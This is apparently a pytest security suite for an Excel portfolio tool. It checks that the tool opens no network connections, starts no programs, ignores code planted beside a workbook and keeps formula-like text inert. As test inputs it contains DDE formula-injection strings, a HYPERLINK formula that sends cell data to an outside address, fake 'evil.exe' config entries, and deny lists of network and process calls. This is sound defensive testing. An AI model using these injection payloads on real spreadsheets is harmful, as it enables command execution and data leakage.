"""What docs/security.md promises and no other test shows."""

from __future__ import annotations

import ast
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.test_layers import CHECKOUT, imported, modules
from xlportfolio.workbook.closed import open_workbook

EXAMPLE = CHECKOUT / "workbooks" / "worked_example.xlsx"
PAGE = CHECKOUT / "docs" / "security.md"

NETWORK = {
    *("socket", "ssl", "socketserver", "http", "ftplib", "smtplib", "poplib", "imaplib", "xmlrpc"),
    *("asyncio", "selectors", "requests", "httpx", "aiohttp", "websockets", "webbrowser"),
    *("urllib.request", "urllib.error", "xlwings.server", "xlwings.pro", "xlwings.rest"),
}
CODE_FROM_DATA = {"pickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "yaml"}

# Ends a program at the first thing that it must not do, and can be seen to do so.
GUARD = """
import os, sys
FORBIDDEN = ("socket.", "subprocess.Popen", "os.system", "os.exec", "os.fork", "os.posix_spawn",
             "os.spawn", "os.startfile", "urllib.Request", "http.client", "smtplib", "ftplib")
def forbid(event, arguments):
    if event.startswith(FORBIDDEN):
        os.write(2, f"forbidden: {event} {arguments!r}".encode())
        os._exit(99)
sys.addaudithook(forbid)
"""
COMMAND = GUARD + "from xlportfolio.cli import main\nmain()\n"
# Notes every file that is opened and every folder that is made.
WITNESS = """
import json, os, sys
seen = []
def note(event, arguments):
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        seen.append(["open", os.path.abspath(os.fsdecode(arguments[0])), arguments[2]])
    elif event == "os.mkdir":
        seen.append(["mkdir", os.path.abspath(os.fsdecode(arguments[0])), arguments[1]])
sys.addaudithook(note)
import atexit
report = os.open(sys.argv.pop(1), os.O_WRONLY | os.O_CREAT)
atexit.register(lambda: os.write(report, json.dumps(seen).encode()))
from xlportfolio.cli import main
main()
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with the worked example in it."""
    place = tmp_path / "from a mail"
    place.mkdir()
    shutil.copy(EXAMPLE, place / "book.xlsx")
    return place


def python(code: str, *words: str, cwd: Path, **variables: str) -> subprocess.CompletedProcess[str]:
    """Run a program in a folder, with a home of its own."""
    home = cwd.parent / "home"
    home.mkdir(exist_ok=True)
    environment = {**os.environ, "XLPORTFOLIO_HOME": str(home), **variables}
    environment.pop("PYTHONPATH", None)
    return subprocess.run(
        [sys.executable, "-P", "-c", code, *words],
        capture_output=True,
        text=True,
        cwd=cwd,
        env=environment,
        check=False,
    )


def sources() -> Iterator[tuple[str, ast.Module]]:
    for name, path in modules():
        yield name, ast.parse(path.read_text(encoding="utf-8"))


# Network, programs, code


def test_no_module_imports_what_talks_to_a_network() -> None:
    found = [
        f"{module}:{line} imports {name}"
        for module, tree in sources()
        for line, name in imported(tree, module, False)
        if NETWORK & {name, name.split(".")[0]}
    ]
    assert found == []
    assert any(name == "urllib.parse" for m, t in sources() for _, name in imported(t, m, False))


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("map", "book.xlsx"), 0),
        (("check", "book.xlsx"), 1),
        (("run", "book.xlsx"), 1),
        (("undo", "missing.xlsx"), 2),
        (("functions", "--book", "book.xlsx"), 0),
        (("addin", "build"), 0),
        (("purge",), 0),
    ],
    ids=lambda value: value[0] if isinstance(value, tuple) else "",
)
def test_commands_make_no_connection_and_start_no_program(
    words: tuple[str, ...], code: int, folder: Path
) -> None:
    done = python(COMMAND, *words, cwd=folder)
    assert "forbidden" not in done.stderr
    assert done.returncode == code, done.stderr


def test_macros_make_no_connection_and_start_no_program(folder: Path) -> None:
    said = python(
        GUARD + "import xlportfolio.excel\nfrom xlportfolio.macros import BUTTONS, press\n"
        "for button in BUTTONS:\n    print(press(button.name, None).status)\n",
        cwd=folder,
    )
    assert said.stderr == ""
    assert {*said.stdout.split("\n")} == {"not done", ""}


# Score, rebalance, level and refresh do what run does.
PRESSED = (
    *("new", "example", "self_check", "map", "settings", "check", "run", "write_back"),
    *("values_copy", "functions", "help", "restore", "undo", "handback"),
)
BUTTONS_PRESSED = f"""
sys.path.insert(0, {str(CHECKOUT)!r})
from tests.hosts.stand_in import StandIn
from xlportfolio.macros import press
excel = StandIn()
book = excel.open("book.xlsx")
for name in {PRESSED!r}:
    excel.alerts.answers = ["yes"] if name in ("write_back", "handback") else []
    result = press(name, book, app=book.app, details=excel.details)
    print(name, "was met by a mistake" if "mistake" in result.sentence else result.status)
"""


def test_buttons_on_an_open_workbook_make_no_connection_and_leave_no_scratch_file(
    folder: Path, tmp_path: Path
) -> None:
    scratch, home = tmp_path / "scratch", tmp_path / "someone"
    scratch.mkdir()
    home.mkdir()
    before = (folder / "book.xlsx").read_bytes()
    done = python(GUARD + BUTTONS_PRESSED, cwd=folder, TMPDIR=str(scratch), HOME=str(home))
    assert done.returncode == 0, done.stderr
    said = dict(line.split(" ", 1) for line in done.stdout.splitlines())
    assert tuple(said) == PRESSED
    assert {*said.values()} <= {"done", "needs a person"}, said
    assert list(scratch.iterdir()) == []
    assert {path.name for path in folder.iterdir()} == {"book.xlsx", "book (values).xlsx"}
    assert (folder / "book.xlsx").read_bytes() == before


def test_workbook_of_ours_is_opened_to_be_read_and_no_link_of_it_is_followed() -> None:
    from unittest.mock import MagicMock

    from xlportfolio.workbook.live.beside import opened_beside

    book = MagicMock()
    with opened_beside(book, Path("scratch.xlsx")):
        pass
    asked = book.app.books.open.call_args
    assert asked.args == ("scratch.xlsx",)
    assert asked.kwargs == {"update_links": False, "read_only": True, "add_to_mru": False}


@pytest.mark.parametrize(
    ("code", "event"),
    [
        ("import socket; socket.socket()", "socket.__new__"),
        ("import subprocess; subprocess.run(['true'])", "subprocess.Popen"),
        ("import os; os.system('true')", "os.system"),
    ],
)
def test_connection_or_program_would_be_noticed(code: str, event: str, tmp_path: Path) -> None:
    done = python(GUARD + code, cwd=tmp_path)
    assert (done.returncode, done.stderr[: 11 + len(event)]) == (99, f"forbidden: {event}")


def shells(tree: ast.AST) -> list[str]:
    """Calls that hand a text to a shell, or run a text or data as code."""
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        texts = ("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput")
        code = ("eval", "exec", "compile", "__import__", "os.startfile")
        loud = any(k.arg == "shell" and ast.unparse(k.value) != "False" for k in node.keywords)
        if name in texts + code or loud:
            found.append(f"{node.lineno}: {name}")
    return found


def test_nothing_is_handed_to_a_shell_or_run_from_data() -> None:
    found = {module: calls for module, tree in sources() if (calls := shells(tree))}
    assert found == {}
    unpacked = [
        f"{module} imports {name}"
        for module, tree in sources()
        for _, name in imported(tree, module, False)
        if name.split(".")[0] in CODE_FROM_DATA
    ]
    # Between LibreOffice and the worker that it started, over a pipe that nobody else has.
    assert unpacked == ["xlportfolio.libreoffice.inside_calc.frames imports marshal"]


def test_shell_would_be_found() -> None:
    assert shells(ast.parse("subprocess.run(words, shell=True)\nos.system('x')\neval(text)")) == [
        "1: subprocess.run",
        "2: os.system",
        "3: eval",
    ]


# The folder of a workbook, and the workbook itself


def test_code_and_settings_beside_a_workbook_are_not_used(folder: Path, tmp_path: Path) -> None:
    clean = python(COMMAND, "check", "book.xlsx", "--json", cwd=folder)
    trap = f"open({str(tmp_path / 'ran')!r}, 'w').close()\n"
    for name in ("numpy", "openpyxl", "lxml", "xlwings", "xlportfolio", "typer", "sitecustomize"):
        (folder / f"{name}.py").write_text(trap)
    for name in ("xlwings.conf", "xlportfolio.conf", "xlportfolio.toml", "mapping.toml", ".env"):
        (folder / name).write_text('INTERPRETER_WIN = "C:\\evil.exe"\nPYTHONPATH = "."\n[tables]\n')
    program = Path(sys.executable).with_name("xlportfolio")
    environment = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    done = subprocess.run(
        [program, "check", "book.xlsx", "--json"],
        capture_output=True,
        text=True,
        cwd=folder,
        env=environment,
        check=False,
    )
    assert not (tmp_path / "ran").exists()
    first, second = json.loads(clean.stdout), json.loads(done.stdout)
    assert first.pop("seconds") and second.pop("seconds")
    assert first == second and len(first["problems"]) > 10


def test_of_the_folder_of_a_workbook_only_the_workbook_is_opened(
    folder: Path, tmp_path: Path
) -> None:
    for name in ("other.xlsx", "book.toml", "xlwings.conf", "book.py"):
        (folder / name).write_text("not to be read")
    report, out = tmp_path / "report", tmp_path / "out.xlsx"
    done = python(WITNESS, str(report), "run", "book.xlsx", "-o", str(out), cwd=folder)
    assert done.returncode == 1, done.stderr
    opened = {Path(path) for event, path, _ in json.loads(report.read_bytes()) if event == "open"}
    assert {path.name for path in opened if path.is_relative_to(folder)} == {"book.xlsx"}


def test_sheet_of_settings_in_a_workbook_is_a_sheet_like_any_other(folder: Path) -> None:
    book = load_workbook(folder / "book.xlsx")
    for name in ("xlwings.conf", "_xlwings.conf", "xlportfolio.conf"):
        sheet = book.create_sheet(name)
        sheet.append(["Interpreter_Win", "C:\\evil.exe"])
        sheet.append(["PYTHONPATH", "C:\\evil"])
        sheet.append(["UDF Modules", "evil"])
    (folder / "with").mkdir()
    book.save(folder / "with" / "book.xlsx")
    load_workbook(folder / "book.xlsx").save(folder / "book.xlsx")
    answers = []
    for place in (folder, folder / "with"):
        done = python(COMMAND, "map", "book.xlsx", "--json", cwd=place)
        answer = json.loads(done.stdout)
        answers.append((answer["tables"], answer["questions"]))
    assert answers[0] == answers[1] and len(answers[0][0]) > 5


FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Depot")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
)


def test_text_that_looks_like_a_formula_stays_text_on_our_sheets(folder: Path) -> None:
    path = folder / "book.xlsx"
    with open_workbook(path) as book:
        book.write("Project register!B9:B12", [[text] for text in FORMULAS])
        book.save()
    done = python(COMMAND, "run", "book.xlsx", "-o", "out.xlsx", cwd=folder)
    assert done.returncode == 1, done.stderr
    results = load_workbook(folder / "out.xlsx")
    ours = [sheet for sheet in results.worksheets if sheet.title.startswith("PF ")]
    assert len(ours) == 9
    cells = [c for sheet in ours for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {*FORMULAS} <= {cell.value for cell in cells if cell.data_type == "s"}
    with zipfile.ZipFile(folder / "out.xlsx") as after, zipfile.ZipFile(path) as before:
        new = [name for name in after.namelist() if name not in before.namelist()]
        assert len([name for name in new if "worksheets/sheet" in name]) >= len(ours)
        for name in new:
            part = after.read(name)
            assert "worksheets/sheet" not in name or not re.search(rb"<f[ >/]", part), name
            assert b'TargetMode="External"' not in part, name


def test_cell_functions_open_no_file(folder: Path) -> None:
    """A formula of a mailed workbook can call them with whatever it holds."""
    code = (
        "from xlportfolio.cell_calls import call\n"
        "from xlportfolio.cells import Registry\n"
        "functions = list(Registry.load())\n"
        "hostile = ['/etc/passwd', '=cmd|x', 'http://192.0.2.1/', '__import__(\"os\")', 1e308]\n"
        "def call_all():\n"
        "    for function in functions:\n"
        "        for example in function.examples:\n"
        "            call(function, [example.arguments.get(a.name) for a in function.arguments])\n"
        "        for text in hostile:\n"
        "            call(function, [text] * len(function.arguments))\n"
        "            call(function, [[[text], [text]]] * len(function.arguments))\n"
        "call_all()\n"
        "import os, sys\n"
        "def forbid(event, arguments):\n"
        "    if event in ('open', 'import', 'os.listdir', 'os.remove', 'os.mkdir'):\n"
        "        os.write(2, f'forbidden: {event} {arguments!r}'.encode())\n"
        "        os._exit(99)\n"
        "sys.addaudithook(forbid)\n"
        "call_all()\n"
        "os.write(1, b'%d' % len(functions))\n"
    )
    done = python(GUARD + code, cwd=folder)
    assert done.stderr == ""
    assert int(done.stdout) > 5


# Files of ours


def test_scratch_files_are_private_and_gone_afterwards(folder: Path, tmp_path: Path) -> None:
    scratch, report = tmp_path / "scratch", tmp_path / "report"
    scratch.mkdir()
    done = python(WITNESS, str(report), "demo", cwd=folder, TMPDIR=str(scratch))
    assert done.returncode == 0, done.stderr
    there = [
        (event, Path(path).parent == scratch, mode)
        for event, path, mode in json.loads(report.read_bytes())
        if Path(path).is_relative_to(scratch)
    ]
    assert ("mkdir", True, 0o700) in there
    for event, at_the_top, mode in there:
        if event == "mkdir" and at_the_top:
            assert mode == 0o700
        elif at_the_top:
            assert mode & os.O_EXCL or not mode & (os.O_WRONLY | os.O_RDWR)
    assert list(scratch.iterdir()) == []


def test_names_of_scratch_files_are_never_made_up_by_hand() -> None:
    """What tempfile makes is private, new and of a name that nobody can foresee."""
    risky = re.compile(r"tempfile\.mktemp|[\"']/tmp/|gettempdir\(\)\s*[/+]|delete=False")
    found = [n for n, p in modules() if risky.search(p.read_text(encoding="utf-8"))]
    assert found == []
